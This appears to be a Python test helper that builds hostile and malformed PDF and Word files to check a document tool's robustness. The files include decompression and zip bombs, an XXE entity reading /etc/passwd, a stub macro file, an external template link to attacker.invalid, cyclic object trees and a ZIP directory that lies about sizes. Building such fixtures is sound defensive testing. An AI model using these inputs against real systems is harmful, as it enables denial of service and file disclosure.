"""Builders for hostile and broken files, and a way to run the CLI under measurement.

Every file is made here from a real pack (or from scratch), so the acceptance
suite needs no binary fixtures.
"""

from __future__ import annotations

import io
import os
import signal
import subprocess
import sys
import threading
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from pypdf import PdfReader, PdfWriter
from pypdf.generic import NameObject, NumberObject

ROOT = Path(__file__).resolve().parent.parent


@dataclass
class Run:
    code: int
    out: str
    err: str
    peak_mb: float  # the command's own peak RSS and its children's, whichever is larger


#: A hang bound, not a speed check: a command still running after this long is killed and the test fails.
HANG_SECONDS = 300


#: ``python -c _MEASURE FD ARGS`` runs ``python -m generator ARGS`` as its child and writes the child's
#: peak RSS (KiB, its own and its reaped children's) to file descriptor FD. A process forked straight from pytest would inherit pytest's own peak RSS
#: (Linux carries the parent's high-water mark through fork and exec), so the figure would depend on what
#: earlier tests loaded; this wrapper starts small, so the figure is the command's.
_MEASURE = """
import os, sys
pid = os.fork()
if pid == 0:
    os.execv(sys.executable, [sys.executable, "-m", "generator", *sys.argv[2:]])
_, status, usage = os.wait4(pid, 0)
os.write(int(sys.argv[1]), str(usage.ru_maxrss).encode())
sys.exit(os.waitstatus_to_exitcode(status))
"""


def run_cli_measured(*args: str, hang_seconds: float = HANG_SECONDS) -> Run:
    """Run ``portfolio ARGS`` in a fresh process and take its peak RSS from wait4().

    A command that has not finished after ``hang_seconds`` is killed and AssertionError raised.
    """
    peak_read, peak_write = os.pipe()
    process = subprocess.Popen([sys.executable, "-c", _MEASURE, str(peak_write), *args], cwd=ROOT,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               pass_fds=(peak_write,), start_new_session=True)
    os.close(peak_write)
    killed = threading.Event()

    def kill() -> None:
        killed.set()
        os.killpg(process.pid, signal.SIGKILL)
    timer = threading.Timer(hang_seconds, kill)
    timer.start()
    try:
        err_chunks: list[bytes] = []
        reader = threading.Thread(target=lambda: err_chunks.append(process.stderr.read()))
        reader.start()
        out = process.stdout.read()
        reader.join()
        process.wait()
        with os.fdopen(peak_read, "rb") as pipe:
            peak_kib = pipe.read()
    finally:
        timer.cancel()
    process.stdout.close()
    process.stderr.close()
    if killed.is_set():
        raise AssertionError(f"portfolio {' '.join(args)} still running after {hang_seconds} s: killed")
    return Run(process.returncode, out.decode(), err_chunks[0].decode(), int(peak_kib) / 1024)


def _rewrite(data: bytes, change) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf(pack: bytes, algorithm: str = "AES-128") -> bytes:
    return _rewrite(pack, lambda w: w.encrypt(user_password="secret", algorithm=algorithm))


def flattened_pdf(pack: bytes) -> bytes:
    def change(w):
        del w._root_object["/AcroForm"]
        for page in w.pages:
            page.pop("/Annots", None)
    return _rewrite(pack, change)


def decompression_bomb_pdf(pack: bytes, size: int = 200_000_000) -> bytes:
    """The pack with its manifest stream replaced by a deflate bomb (``size`` bytes of zeros)."""
    def change(w):
        names = w._root_object["/Names"]["/EmbeddedFiles"]["/Names"]
        stream = names[1].get_object()["/EF"]["/F"].get_object()
        compressor = zlib.compressobj(9)
        chunk = b"\0" * 1_000_000
        parts = [compressor.compress(chunk) for _ in range(size // len(chunk))] + [compressor.flush()]
        stream._data = b"".join(parts)
        stream[NameObject("/Length")] = NumberObject(len(stream._data))
    return _rewrite(pack, change)


def cyclic_page_tree_pdf() -> bytes:
    """A small PDF whose page tree contains itself, with a circular /Prev in its xref chain too."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        b"<< /FT /Tx /T (name) /V (x) /Kids [4 0 R] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref, xref))
    return out.getvalue()


def big_file(path: Path, size: int = 200_000_000) -> Path:
    """A sparse file of ``size`` bytes that starts like a PDF (no disk is used for the rest)."""
    with path.open("wb") as handle:
        handle.write(b"%PDF-1.7\n")
        handle.truncate(size)
    return path


def _docx_with(pack: bytes, replace: dict[str, bytes], add: dict[str, bytes] | None = None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(pack))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def docx_zip_bomb(pack: bytes, size: int = 150_000_000) -> bytes:
    """The pack with an extra part that unpacks to ``size`` bytes of zeros (compressed ~1000:1)."""
    source = zipfile.ZipFile(io.BytesIO(pack))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        with target.open("word/media/padding.bin", "w", force_zip64=True) as handle:
            chunk = b"\0" * 1_000_000
            for _ in range(size // len(chunk)):
                handle.write(chunk)
    return out.getvalue()


def docx_xxe(pack: bytes) -> bytes:
    document = zipfile.ZipFile(io.BytesIO(pack)).read("word/document.xml")
    head, _, body = document.partition(b"?>")
    evil = (head + b'?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
            b'<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>' + body)
    return _docx_with(pack, {"word/document.xml": evil.replace(b"Enter text", b"&xxe;", 1)})


def docm(pack: bytes) -> bytes:
    types = zipfile.ZipFile(io.BytesIO(pack)).read("[Content_Types].xml")
    types = types.replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                          b"application/vnd.ms-word.document.macroEnabled.main+xml")
    return _docx_with(pack, {"[Content_Types].xml": types}, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0fake macro"})


def docx_external_relationship(pack: bytes) -> bytes:
    rels = zipfile.ZipFile(io.BytesIO(pack)).read("word/_rels/document.xml.rels")
    rels = rels.replace(b"</Relationships>", b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/'
                        b'officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
                        b'TargetMode="External"/></Relationships>')
    return _docx_with(pack, {"word/_rels/document.xml.rels": rels})


#: A synthetic NHS number in the 999 test range, its check digit worked by hand (Modulus 11,
#: weights 10..2 on the first nine digits): 9*10 + 9*9 + 9*8 + 0*7 + 0*6 + 0*5 + 0*4 + 0*3 + 1*2 = 245;
#: 245 = 22*11 + 3, so the check digit is 11 - 3 = 8.  Written out, never generated by the code under test.
VALID_NHS_NUMBER = "9990000018"


def valid_nhs_number() -> str:
    """A synthetic NHS number in the 999 test range that passes the Modulus 11 check (see VALID_NHS_NUMBER)."""
    return VALID_NHS_NUMBER


# ---------------------------------------------------------------- hostile returns (issue 16)

def cyclic_parent_pdf(pack: bytes) -> bytes:
    """The pack with one text field's /Parent chain made a loop (field -> X -> field), and the
    keys a reader looks up through the chain (/FT, /V) taken off the field, so that a reader
    without a visited set walks the loop for ever."""
    from pypdf.generic import DictionaryObject

    def terminal_text_fields(refs):
        for ref in refs:
            node = ref.get_object()
            named_kids = [k for k in node.get("/Kids", []) if "/T" in k.get_object()]
            if named_kids:
                yield from terminal_text_fields(named_kids)
            elif node.get("/FT") == "/Tx":
                yield ref

    def change(w):
        for ref in terminal_text_fields(w._root_object["/AcroForm"]["/Fields"]):
            node = ref.get_object()
            loop = DictionaryObject()
            loop_ref = w._add_object(loop)
            loop[NameObject("/Parent")] = ref
            node[NameObject("/Parent")] = loop_ref
            del node["/FT"]
            node.pop("/V", None)
            return
        raise AssertionError("no plain text field in the pack")
    return _rewrite(pack, change)


def docm_in_other_case(pack: bytes) -> bytes:
    """A macro-enabled copy whose part name and content type are written in other letter cases
    (OPC names and content types ignore case, so Word still runs the macros)."""
    types = zipfile.ZipFile(io.BytesIO(pack)).read("[Content_Types].xml")
    types = types.replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                          b"application/vnd.ms-word.document.MACROENABLED.main+xml")
    return _docx_with(pack, {"[Content_Types].xml": types}, {"word/vbaproject.bin": b"\xd0\xcf\x11\xe0fake macro"})


def docx_with_parts_differing_in_case(pack: bytes) -> bytes:
    """A second copy of word/document.xml as WORD/DOCUMENT.XML: which one an editor shows is
    anyone's guess, so the copy is tampered."""
    document = zipfile.ZipFile(io.BytesIO(pack)).read("word/document.xml")
    return _docx_with(pack, {}, {"WORD/DOCUMENT.XML": document})


def docx_lying_central_directory(pack: bytes, size: int = 150_000_000) -> bytes:
    """The pack with word/document.xml padded by ``size`` bytes of spaces (compressed ~1000:1),
    its central-directory entry claiming the original size: checks of the declared sizes pass."""
    source = zipfile.ZipFile(io.BytesIO(pack))
    original = source.read("word/document.xml")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename == "word/document.xml":
                with target.open("word/document.xml", "w") as handle:
                    handle.write(original)
                    chunk = b" " * 1_000_000
                    for _ in range(size // len(chunk)):
                        handle.write(chunk)
            else:
                target.writestr(info.filename, source.read(info))
    data = bytearray(out.getvalue())
    name = b"word/document.xml"
    at = data.find(b"PK\x01\x02")  # the central directory
    while at != -1:
        name_length = int.from_bytes(data[at + 28:at + 30], "little")
        if bytes(data[at + 46:at + 46 + name_length]) == name:
            data[at + 24:at + 28] = len(original).to_bytes(4, "little")  # uncompressed size: a lie
            break
        at = data.find(b"PK\x01\x02", at + 4)
    else:
        raise AssertionError("no central directory entry for word/document.xml")
    return bytes(data)
